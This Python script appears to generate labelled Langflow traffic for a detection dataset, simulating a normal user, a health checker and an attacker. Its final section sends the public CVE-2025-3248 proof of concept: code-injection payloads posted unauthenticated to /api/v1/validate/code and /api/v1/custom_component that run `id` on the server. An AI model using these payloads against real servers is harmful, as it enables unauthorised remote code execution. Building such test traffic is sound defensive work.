#!/usr/bin/env python3
"""Drives a Langflow server behind nginx for tools/capture_langflow.sh (stdlib only).

Three clients, each bound to its own loopback address so the proxy log tells them apart:
  10.20.0.5     alice, a logged-in user in a browser: logs in, lists and creates a flow, runs it,
                loads a custom component, and submits code that fails through validate/code
  10.20.0.6     a health checker (GET /health)
  203.0.113.66  the attacker: version probes, then the public proof of concept of CVE-2025-3248
                (unauthenticated POST /api/v1/validate/code with a decorator that runs `id`), a
                second payload that does not raise, and a custom_component attempt.
Every step is written as one JSON line to the timeline file (time, client, what, method, path,
status): the ground truth for labels.json. Usage: drive.py BASE_URL USER PASSWORD TIMELINE
"""
import http.client, json, sys, time, urllib.parse, uuid

BASE, USER, PASSWORD, TIMELINE = sys.argv[1:5]
URL = urllib.parse.urlparse(BASE)
BROWSER = ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/131.0.0.0 Safari/537.36")
ATTACKER_UA = "python-requests/2.32.3"
CHECKER_UA = "kube-probe/1.31"
out = open(TIMELINE, "a")


def call(client, what, method, path, body=None, headers=None, form=False, ua=BROWSER):
    """One request from `client`; returns (status, parsed JSON or text)."""
    conn = http.client.HTTPConnection(URL.hostname, URL.port, timeout=120, source_address=(client, 0))
    h = {"User-Agent": ua, "Accept": "application/json", "Host": "langflow.example.com"}
    h.update(headers or {})
    data = None
    if body is not None:
        if form:
            data = urllib.parse.urlencode(body)
            h["Content-Type"] = "application/x-www-form-urlencoded"
        else:
            data = json.dumps(body)
            h["Content-Type"] = "application/json"
    started = time.time()
    conn.request(method, path, body=data, headers=h)
    r = conn.getresponse()
    raw = r.read().decode("utf-8", "replace")
    conn.close()
    try:
        parsed = json.loads(raw)
    except ValueError:
        parsed = raw
    line = {"time": round(started, 3), "client": client, "what": what, "method": method,
            "path": path, "status": r.status, "authenticated": "Authorization" in h or "x-api-key" in h}
    if r.status >= 400 or what.startswith("exploit"):
        line["response"] = raw[:300]
    out.write(json.dumps(line) + "\n")
    out.flush()
    print(f"{client:14} {method:5} {path:40} {r.status} {what}", flush=True)
    return r.status, parsed


ALICE, CHECKER, ATTACKER = "10.20.0.5", "10.20.0.6", "203.0.113.66"

# Benign: health checks and a user's session.
call(CHECKER, "health", "GET", "/health", ua=CHECKER_UA)
status, tok = call(ALICE, "login", "POST", "/api/v1/login", {"username": USER, "password": PASSWORD}, form=True)
if status != 200 or not isinstance(tok, dict):
    sys.exit(f"login failed: {status} {tok}")
auth = {"Authorization": "Bearer " + tok["access_token"]}
call(ALICE, "whoami", "GET", "/api/v1/users/whoami", headers=auth)
call(ALICE, "list_flows", "GET", "/api/v1/flows/", headers=auth)
status, comps = call(ALICE, "components", "GET", "/api/v1/all", headers=auth)


def node(kind, category):
    nid = f"{kind}-{uuid.uuid4().hex[:5]}"
    tpl = comps[category][kind]
    return nid, {"id": nid, "type": "genericNode", "position": {"x": 0, "y": 0},
                 "data": {"id": nid, "type": kind, "node": tpl}}


flow = {"name": "support-bot", "description": "echo bot", "data": {"nodes": [], "edges": []}}
if isinstance(comps, dict) and "ChatInput" in comps.get("inputs", {}):
    a, na = node("ChatInput", "inputs")
    b, nb = node("ChatOutput", "outputs")
    src = {"dataType": "ChatInput", "id": a, "name": "message", "output_types": ["Message"]}
    dst = {"fieldName": "input_value", "id": b, "inputTypes": ["Data", "DataFrame", "Message"], "type": "str"}
    flow["data"] = {"nodes": [na, nb], "edges": [{
        "id": f"edge-{a}-{b}", "source": a, "target": b,
        "sourceHandle": json.dumps(src).replace('"', "œ"), "targetHandle": json.dumps(dst).replace('"', "œ"),
        "data": {"sourceHandle": src, "targetHandle": dst}}]}
status, created = call(ALICE, "create_flow", "POST", "/api/v1/flows/", flow, headers=auth)
flow_id = created.get("id") if isinstance(created, dict) else None
status, key = call(ALICE, "create_api_key", "POST", "/api/v1/api_key/", {"name": "support-bot"}, headers=auth)
api = {"x-api-key": key.get("api_key", "")} if isinstance(key, dict) else auth
if flow_id:
    call(ALICE, "run_flow", "POST", f"/api/v1/run/{flow_id}?stream=false",
         {"input_value": "hello", "input_type": "chat", "output_type": "chat"}, headers=api)
good_component = (
    "from langflow.custom import Component\nfrom langflow.io import MessageTextInput, Output\n"
    "from langflow.schema.message import Message\n\n"
    "class Upper(Component):\n    display_name = 'Upper'\n"
    "    inputs = [MessageTextInput(name='text', display_name='Text')]\n"
    "    outputs = [Output(display_name='Out', name='out', method='run')]\n\n"
    "    def run(self) -> Message:\n        return Message(text=str(self.text).upper())\n")
call(ALICE, "load_component", "POST", "/api/v1/custom_component", {"code": good_component}, headers=auth)
call(ALICE, "validate_good_code", "POST", "/api/v1/validate/code",
     {"code": "def upper(text: str) -> str:\n    return text.upper()\n"}, headers=auth)
# The user's failing code: a default value that raises when the function is defined.
call(ALICE, "validate_failing_code", "POST", "/api/v1/validate/code",
     {"code": "import json\n\ndef parse(raw: str = json.loads('{bad json')):\n    return raw\n"}, headers=auth)
call(CHECKER, "health", "GET", "/health", ua=CHECKER_UA)
time.sleep(2)

# The attack: version probes, then the public proof of concept (CVE-2025-3248).
call(ATTACKER, "probe_version", "GET", "/api/v1/version", ua=ATTACKER_UA)
call(ATTACKER, "probe_auto_login", "GET", "/api/v1/auto_login", ua=ATTACKER_UA)
call(ATTACKER, "probe_config", "GET", "/api/v1/config", ua=ATTACKER_UA)
poc = ("@exec(\"raise Exception(__import__('subprocess').check_output(['id']))\")\n"
       "def foo():\n  pass\n")
call(ATTACKER, "exploit_validate_code", "POST", "/api/v1/validate/code", {"code": poc}, ua=ATTACKER_UA)
quiet = "def foo(cmd=__import__('subprocess').getoutput('id')):\n  pass\n"
call(ATTACKER, "exploit_quiet_payload", "POST", "/api/v1/validate/code", {"code": quiet}, ua=ATTACKER_UA)
call(ATTACKER, "exploit_custom_component", "POST", "/api/v1/custom_component", {"code": poc}, ua=ATTACKER_UA)
call(CHECKER, "health", "GET", "/health", ua=CHECKER_UA)
